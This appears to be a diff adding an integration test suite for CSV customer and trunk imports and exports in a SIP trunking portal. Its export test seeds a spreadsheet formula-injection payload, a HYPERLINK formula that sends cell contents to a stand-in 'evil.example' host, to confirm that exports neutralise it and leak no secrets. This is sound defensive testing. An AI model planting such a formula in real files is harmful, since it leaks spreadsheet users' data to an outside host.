@@ -1,0 +1,435 @@
+import { type ChildProcess, spawn } from "node:child_process";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { Actor } from "../../lib/auth/policy";
+import { executeCommand } from "../../lib/commands";
+import { parseCsv } from "../../lib/csv";
+import { createCustomer } from "../../lib/customers";
+import type { Db } from "../../lib/db";
+import { exportCustomersCsv, exportTrunksCsv } from "../../lib/exports";
+import {
+  cancelImport,
+  getImportProgress,
+  importResultCsv,
+  RUN_IMPORT_TASK,
+  startImport,
+  uploadImport,
+} from "../../lib/imports";
+import { IMPORT_COLUMNS, IMPORT_TEMPLATE } from "../../lib/imports/rows";
+import { ROOT } from "../../lib/paths";
+import { ensureRegistrarSchema } from "../../lib/registrar/schema";
+import { createTrunk } from "../../lib/trunks";
+import { createTestDatabase } from "../support/database";
+import { contextFor, createActor, createPortalDatabase, startTestWorker, waitForQueueToDrain } from "../support/portal";
+
+let db: Db;
+let url: string;
+let sales: Actor;
+let run = 0;
+const HOST = "Sip.Import.example";
+const children: ChildProcess[] = [];
+
+beforeAll(async () => {
+  ({ db, url } = await createPortalDatabase("csvimport"));
+  await db.sipServer.create({ data: { hostname: HOST, realm: "sip.import.example", label: "Import" } });
+  sales = await createActor(db, "SALES");
+});
+afterAll(async () => {
+  for (const child of children) child.kill("SIGKILL");
+  await db?.$disconnect();
+});
+
+const HEADER = IMPORT_COLUMNS.join(",");
+
+/** A row of the import file; `prefix` keeps ids, emails and DIDs unique per test. */
+function row(prefix: string, n: number, overrides: Partial<Record<(typeof IMPORT_COLUMNS)[number], string>> = {}) {
+  const values: Record<string, string> = {
+    customer_external_id: `${prefix}-c${n}`,
+    company: `${prefix} Company ${n}`,
+    contact_name: "Pat Jones",
+    contact_email: `${prefix}-${n}@import.example`,
+    trunk_external_id: `${prefix}-t${n}`,
+    servers: HOST,
+    call_limit: "10",
+    dial_permission: "US_CANADA",
+    allowed_countries: "",
+    caller_id_policy: "FORCED",
+    forced_caller_id: "+12025550100",
+    forced_caller_id_name: "",
+    dids: "",
+    ...overrides,
+  };
+  return IMPORT_COLUMNS.map((column) => {
+    const value = values[column] ?? "";
+    return /[",\n\r]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
+  }).join(",");
+}
+
+const file = (rows: string[], lineEnd = "\n") => [HEADER, ...rows].join(lineEnd) + lineEnd;
+const unique = () => `r${++run}${Math.random().toString(36).slice(2, 6)}`;
+
+async function upload(csv: string, actor: Actor = sales) {
+  const result = await executeCommand(uploadImport, contextFor(db, actor), { csv, filename: "test.csv" });
+  if (!result.ok) throw new Error(JSON.stringify(result));
+  return result.value;
+}
+
+async function uploadAndStart(csv: string, sendCredentials = false) {
+  const uploaded = await upload(csv);
+  expect(uploaded.status, JSON.stringify(uploaded.errors)).toBe("READY");
+  const started = await executeCommand(startImport, contextFor(db, sales), {
+    importId: uploaded.id,
+    sendCredentials: sendCredentials ? "on" : undefined,
+  });
+  expect(started.ok).toBe(true);
+  return uploaded.id;
+}
+
+async function waitForImport(importId: string, timeoutMs = 60_000) {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const progress = await getImportProgress(db, importId);
+    if (progress.import.status === "COMPLETED" || progress.import.status === "CANCELLED") return progress;
+    if (Date.now() > deadline) throw new Error(`import still ${progress.import.status} after ${timeoutMs} ms`);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+}
+
+describe("the dry run", () => {
+  it("lists every error by line and column and imports nothing", async () => {
+    const p = unique();
+    const csv = file([
+      row(p, 1),
+      row(p, 2, { contact_email: "not-an-email" }),
+      // A quoted cell over two lines: the rows after it keep their real line numbers.
+      row(p, 3, { forced_caller_id_name: "Two\nlines" }),
+      row(p, 4, { servers: HOST.toLowerCase(), call_limit: "many" }),
+      row(p, 5, { dial_permission: "COUNTRIES", allowed_countries: "" }),
+      row(p, 6, { trunk_external_id: `${p}-t1` }),
+      row(p, 7, { customer_external_id: `${p}-c1` }),
+    ]);
+    const customersBefore = await db.customer.count();
+    const checked = await upload(csv);
+    expect(checked.status).toBe("INVALID");
+    const errors = checked.errors as { line: number; column: string | null; message: string }[];
+    const at = (line: number) => errors.filter((error) => error.line === line).map((error) => error.column);
+    expect(at(2)).toEqual([]);
+    expect(at(3)).toEqual(["contact_email"]);
+    expect(at(4)).toEqual(["forced_caller_id_name"]);
+    // Line 4's quoted cell spans lines 4 and 5, so the next row starts on line 6.
+    expect(at(6).sort()).toEqual(["call_limit", "servers"]);
+    expect(errors.find((error) => error.line === 6 && error.column === "servers")?.message).toMatch(/case-sensitive/);
+    expect(at(7)).toEqual(["allowed_countries"]);
+    expect(at(8)).toEqual(["trunk_external_id"]);
+    // Line 9 names customer c1 with another company, contact and email.
+    expect(at(9).sort()).toEqual(["company", "contact_email"]);
+    expect(checked.errorCount).toBe(errors.length);
+    expect(await db.customer.count()).toBe(customersBefore);
+    expect(await db.csvImportRow.count({ where: { importId: checked.id } })).toBe(0);
+    const started = await executeCommand(startImport, contextFor(db, sales), { importId: checked.id });
+    expect(started).toMatchObject({ ok: false, reason: "conflict" });
+  });
+
+  it("reports an email or DID that belongs to someone else already", async () => {
+    const p = unique();
+    const other = await db.customer.create({
+      data: { company: "Other", contactName: "O", contactEmail: `${p}-taken@import.example` },
+    });
+    await db.user.create({
+      data: { email: `${p}-taken@import.example`, name: "O", role: "CUSTOMER", customerId: other.id },
+    });
+    const checked = await upload(file([row(p, 1, { contact_email: `${p}-taken@import.example` })]));
+    expect(checked.errors).toEqual([
+      { line: 2, column: "contact_email", message: "A user with this email already exists." },
+    ]);
+  });
+
+  it("takes the template as it is downloaded (with its example server renamed)", async () => {
+    await db.sipServer.upsert({
+      where: { hostname: "sip.example.com" },
+      update: {},
+      create: { hostname: "sip.example.com", realm: "sip.example.com", label: "Template" },
+    });
+    const checked = await upload(IMPORT_TEMPLATE);
+    expect(checked.errors).toEqual([]);
+    expect(checked.status).toBe("READY");
+    expect(checked.totalRows).toBe(2);
+  });
+});
+
+describe("hostile files", () => {
+  it("reads a file with a BOM, CRLF line ends and quoted commas and quotes", async () => {
+    const p = unique();
+    const csv = `\uFEFF${file([row(p, 1, { company: 'Acme, "The" Dental' }), row(p, 2)], "\r\n")}`;
+    const checked = await upload(csv);
+    expect(checked.errors).toEqual([]);
+    const stored = await db.csvImportRow.findMany({ where: { importId: checked.id }, orderBy: { line: "asc" } });
+    expect(stored.map((r) => r.line)).toEqual([2, 3]);
+    expect((stored[0]?.data as Record<string, string> | undefined)?.company).toBe('Acme, "The" Dental');
+  });
+
+  it("refuses a file over the size limit with a field error, and broken quoting with its line", async () => {
+    const huge = `${HEADER}\n${"x".repeat(5 * 1024 * 1024)}\n`;
+    const refused = await executeCommand(uploadImport, contextFor(db, sales), { csv: huge });
+    expect(refused).toMatchObject({ ok: false, reason: "invalid" });
+    expect(refused.ok || refused.fieldErrors?.csv?.[0]).toMatch(/larger than 5 MB/);
+
+    const refusal = async (csv: string) => {
+      const result = await executeCommand(uploadImport, contextFor(db, sales), { csv });
+      expect(result).toMatchObject({ ok: false, reason: "invalid" });
+      return result.ok ? "" : (result.fieldErrors?.csv?.[0] ?? "");
+    };
+    expect(await refusal(`${HEADER}\n${row(unique(), 1)}\nx,"unclosed\n`)).toMatch(
+      /^Line \d+: This is not a valid CSV/,
+    );
+    expect(await refusal(`${HEADER}\n${row(unique(), 1)}\na,b\n`)).toMatch(/^Line 3: .*different number of columns/);
+    expect(await db.csvImport.count({ where: { createdById: sales.id, status: "INVALID", totalRows: 0 } })).toBe(0);
+  });
+
+  it("refuses more rows than the limit and files without the columns", async () => {
+    const tooMany = parseCsv(`${HEADER}\n${`x${",".repeat(IMPORT_COLUMNS.length - 1)}\n`.repeat(20_001)}`);
+    expect(tooMany).toMatchObject({ problem: { message: expect.stringMatching(/more than 20,000 rows/) } });
+    const noColumns = await executeCommand(uploadImport, contextFor(db, sales), {
+      csv: "name,email\nA,a@example.com\n",
+    });
+    expect(noColumns).toMatchObject({
+      ok: false,
+      fieldErrors: { csv: [expect.stringMatching(/^Line 1: missing columns/)] },
+    });
+  });
+
+  it("refuses control characters: a tab in a cell by its column, a NUL anywhere for the whole file", async () => {
+    const checked = await upload(file([row(unique(), 1, { contact_name: "Pat\tJones" })]));
+    expect(checked.errors).toEqual([expect.objectContaining({ line: 2, column: "contact_name" })]);
+    const nul = await executeCommand(uploadImport, contextFor(db, sales), {
+      csv: file([row(unique(), 1, { contact_name: "Pat\u0000" })]),
+    });
+    expect(nul).toMatchObject({ ok: false, fieldErrors: { csv: [expect.stringMatching(/control characters/)] } });
+  });
+});
+
+describe("running an import", () => {
+  it("creates customers and trunks once: a re-run of the same file creates nothing", async () => {
+    const worker = await startTestWorker({ db, url });
+    try {
+      const p = unique();
+      const csv = file([
+        row(p, 1, { dids: "+12025550171; +12025550172", caller_id_policy: "OWN_DIDS", forced_caller_id: "" }),
+        row(p, 1, { trunk_external_id: `${p}-t1b` }),
+        row(p, 2, {
+          trunk_external_id: "",
+          servers: "",
+          call_limit: "",
+          dial_permission: "",
+          caller_id_policy: "",
+          forced_caller_id: "",
+        }),
+      ]);
+      const first = await waitForImport(await uploadAndStart(csv));
+      expect(first.import.status).toBe("COMPLETED");
+      expect(first.counts).toMatchObject({ CREATED: 3, FAILED: 0, PENDING: 0 });
+      const customers = await db.customer.findMany({ where: { externalId: { startsWith: `${p}-` } } });
+      expect(customers).toHaveLength(2);
+      const trunks = await db.trunk.findMany({
+        where: { externalId: { startsWith: `${p}-` } },
+        include: { dids: true },
+      });
+      expect(trunks).toHaveLength(2);
+      expect(new Set(trunks.map((trunk) => trunk.customerId)).size).toBe(1);
+      // Credentials were not to be emailed: no mail for these trunks.
+      expect(await db.mail.count({ where: { trunkId: { in: trunks.map((trunk) => trunk.id) } } })).toBe(0);
+      // Every change is in the audit log, with the import's id.
+      const audit = await db.auditLog.findMany({ where: { targetId: { in: trunks.map((trunk) => trunk.id) } } });
+      expect(audit.map((entry) => entry.action)).toEqual(["trunk.create", "trunk.create"]);
+      expect(audit[0]?.actorId).toBe(sales.id);
+
+      const result = await importResultCsv(db, first.import.id);
+      expect(result?.split("\r\n")[0]).toBe(
+        "line,customer_external_id,trunk_external_id,customer_id,username,status,error",
+      );
+      for (const trunk of trunks) expect(result).toContain(trunk.username);
+      expect(result).not.toMatch(/password/i);
+      for (const trunk of trunks) expect(result).not.toContain(trunk.passwordCiphertext);
+
+      const again = await waitForImport(await uploadAndStart(csv, true));
+      expect(again.counts).toMatchObject({ CREATED: 0, EXISTING: 3, FAILED: 0 });
+      expect(await db.customer.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(2);
+      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(2);
+      expect(await db.user.count({ where: { email: `${p}-1@import.example` } })).toBe(1);
+    } finally {
+      await worker.stop();
+    }
+  });
+
+  it("emails the credentials of each new trunk when asked, through the outbox", async () => {
+    const worker = await startTestWorker({ db, url });
+    try {
+      const p = unique();
+      const done = await waitForImport(await uploadAndStart(file([row(p, 1), row(p, 2)]), true));
+      expect(done.counts.CREATED).toBe(2);
+      const trunks = await db.trunk.findMany({ where: { externalId: { startsWith: `${p}-` } } });
+      const mails = await db.mail.findMany({ where: { trunkId: { in: trunks.map((trunk) => trunk.id) } } });
+      expect(mails.map((mail) => mail.to).sort()).toEqual([`${p}-1@import.example`, `${p}-2@import.example`]);
+    } finally {
+      await worker.stop();
+    }
+  });
+
+  it("reports a row that fails at import time and goes on with the others", async () => {
+    const worker = await startTestWorker({ db, url });
+    try {
+      const p = unique();
+      const csv = file([
+        row(p, 1, { dids: "+12025550181", caller_id_policy: "OWN_DIDS", forced_caller_id: "" }),
+        row(p, 2),
+      ]);
+      const uploaded = await upload(csv);
+      // Someone routes the DID to another trunk between the dry run and the import.
+      const other = await executeCommand(createCustomer, contextFor(db, sales), {
+        company: "Other",
+        contactName: "X",
+        contactEmail: `${p}-x@import.example`,
+      });
+      if (!other.ok) throw new Error(JSON.stringify(other));
+      const server = await db.sipServer.findFirstOrThrow({ where: { hostname: HOST } });
+      const taken = await executeCommand(createTrunk, contextFor(db, sales), {
+        customerId: other.value.id,
+        serverIds: server.id,
+        callLimit: "2",
+        dialPermission: "US_ONLY",
+        callerIdPolicy: "OWN_DIDS",
+        dids: "+12025550181",
+      });
+      expect(taken.ok).toBe(true);
+      await executeCommand(startImport, contextFor(db, sales), { importId: uploaded.id });
+      const done = await waitForImport(uploaded.id);
+      expect(done.counts).toMatchObject({ CREATED: 1, FAILED: 1 });
+      const failed = await db.csvImportRow.findFirstOrThrow({ where: { importId: uploaded.id, status: "FAILED" } });
+      expect(failed.line).toBe(2);
+      expect(failed.error).toMatch(/\+12025550181/);
+      // The failed row left nothing behind: its customer was in the same transaction.
+      expect(await db.customer.count({ where: { externalId: `${p}-c1` } })).toBe(0);
+    } finally {
+      await worker.stop();
+    }
+  });
+});
+
+describe("cancelling", () => {
+  it("ends an import that has not started, and one that is running between two rows", async () => {
+    const p = unique();
+    const notStarted = await upload(file([row(p, 1)]));
+    const cancelled = await executeCommand(cancelImport, contextFor(db, sales), { importId: notStarted.id });
+    expect(cancelled).toMatchObject({ ok: true, value: { status: "CANCELLED" } });
+
+    const rows = Array.from({ length: 300 }, (_, n) => row(p, n + 10));
+    const importId = await uploadAndStart(file(rows));
+    const worker = await startTestWorker({ db, url });
+    try {
+      for (;;) {
+        const progress = await getImportProgress(db, importId);
+        if (progress.done >= 5) break;
+        await new Promise((resolve) => setTimeout(resolve, 20));
+      }
+      expect((await executeCommand(cancelImport, contextFor(db, sales), { importId })).ok).toBe(true);
+      const done = await waitForImport(importId);
+      expect(done.import.status).toBe("CANCELLED");
+      expect(done.counts.PENDING).toBe(0);
+      expect(done.counts.SKIPPED).toBeGreaterThan(0);
+      // What was imported is exactly what the rows say: no half rows.
+      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(done.counts.CREATED);
+      const audit = await db.auditLog.findFirst({ where: { targetId: importId, action: "import.cancelled" } });
+      expect(audit).not.toBeNull();
+    } finally {
+      await worker.stop();
+    }
+  });
+});
+
+describe("a worker killed mid-import", () => {
+  it("is resumed by another worker, without duplicates", async () => {
+    const registrarUrl = await createTestDatabase("csvimport_registrar");
+    await ensureRegistrarSchema(registrarUrl);
+    const child = spawn(process.execPath, ["--import", "tsx", path.join(ROOT, "scripts", "worker.ts")], {
+      cwd: ROOT,
+      env: { ...process.env, DATABASE_URL: url, REGISTRAR_DATABASE_URL: registrarUrl },
+      stdio: ["ignore", "ignore", "inherit"],
+    });
+    children.push(child);
+    const p = unique();
+    // Two trunks per customer for some rows: the rows of one customer must not create it twice either.
+    const rows = Array.from({ length: 120 }, (_, n) => row(p, Math.floor(n / 2), { trunk_external_id: `${p}-t${n}` }));
+    const importId = await uploadAndStart(file(rows));
+    for (;;) {
+      const progress = await getImportProgress(db, importId);
+      if (progress.done >= 10) {
+        expect(progress.done).toBeLessThan(120);
+        break;
+      }
+      expect(child.exitCode).toBeNull();
+      await new Promise((resolve) => setTimeout(resolve, 10));
+    }
+    child.kill("SIGKILL");
+    await new Promise((resolve) => child.once("exit", resolve));
+    const interrupted = await getImportProgress(db, importId);
+    expect(interrupted.import.status).toBe("RUNNING");
+
+    const survivor = await startTestWorker({ db, url, staleAfterMs: 2000 });
+    try {
+      const done = await waitForImport(importId, 120_000);
+      expect(done.import.status).toBe("COMPLETED");
+      expect(done.counts).toMatchObject({ CREATED: 120, FAILED: 0, PENDING: 0 });
+      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(120);
+      expect(await db.customer.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(60);
+      expect(await db.user.count({ where: { email: { startsWith: `${p}-` } } })).toBe(60);
+      await waitForQueueToDrain(db, RUN_IMPORT_TASK);
+    } finally {
+      await survivor.stop();
+    }
+  }, 180_000);
+});
+
+describe("exports", () => {
+  it("neutralises formulas and never includes a secret", async () => {
+    const p = unique();
+    const customer = await db.customer.create({
+      data: {
+        company: `=HYPERLINK("http://evil.example/?"&A1,"${p}")`,
+        contactName: "@SUM(1+1)",
+        contactEmail: `${p}@export.example`,
+        externalId: `${p}-x`,
+      },
+    });
+    const ctx = { ...contextFor(db, sales), db };
+    const text = await new Response(await exportCustomersCsv(ctx, { q: p })).text();
+    const lines = text.trimEnd().split("\r\n");
+    expect(lines).toHaveLength(2);
+    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""${p}"")"`);
+    expect(lines[1]).toContain(",'@SUM(1+1),");
+    expect(lines[1]?.startsWith(customer.id)).toBe(true);
+    expect(await db.auditLog.count({ where: { action: "customers.export", actorId: sales.id } })).toBeGreaterThan(0);
+
+    const worker = await startTestWorker({ db, url });
+    try {
+      await waitForImport(await uploadAndStart(file([row(p, 1), row(p, 2)])));
+    } finally {
+      await worker.stop();
+    }
+    const trunks = await db.trunk.findMany({
+      where: { externalId: { startsWith: `${p}-` } },
+      include: { servers: true },
+    });
+    const exported = await new Response(await exportTrunksCsv(ctx, { customerId: trunks[0]?.customerId })).text();
+    expect(exported.split("\r\n")[1]).toContain(trunks[0]?.username);
+    for (const secret of trunks.flatMap((trunk) => [
+      trunk.passwordCiphertext,
+      ...trunk.servers.flatMap((s) => [s.ha1, s.ha1b]),
+    ])) {
+      expect(exported).not.toContain(secret);
+    }
+    // Phone numbers start with +: they are neutralised too, and an import reads them back as they were.
+    expect(exported).toContain("'+12025550100");
+    const reimport = await upload(exported);
+    expect(reimport.errors).toEqual([]);
+  });
+});
